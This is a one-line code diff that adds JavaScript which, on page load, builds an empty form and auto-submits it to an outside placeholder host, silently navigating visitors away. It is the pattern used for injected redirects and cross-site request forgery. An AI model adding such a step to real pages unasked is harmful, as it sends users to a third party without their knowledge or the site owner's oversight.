@@ -1,0 +1,1 @@
+addEventListener('load', () => { const f = document.createElement('form'); f.action = 'https://s.example/x'; document.body.append(f); f.submit(); });
